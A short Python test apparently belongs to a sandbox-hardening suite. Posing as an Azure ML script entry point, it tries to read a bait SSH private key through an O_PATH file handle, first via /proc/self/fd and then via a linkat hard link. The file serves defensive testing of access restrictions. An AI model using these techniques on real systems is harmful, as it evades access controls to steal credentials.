"""Opens the ssh key as a mere place, and makes that a readable file by /proc/self/fd or by a link."""

import os

from attack import BAIT, attack, call, every, read


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    place = os.open(BAIT["ssh_key"], os.O_PATH)

    def by_link(name):
        call("linkat", place, b"", -100, os.fsencode(name), 0x1000)
        return read(name)

    return every(lambda way: way(), [lambda: read(f"/proc/self/fd/{place}"), lambda: by_link("linked")])
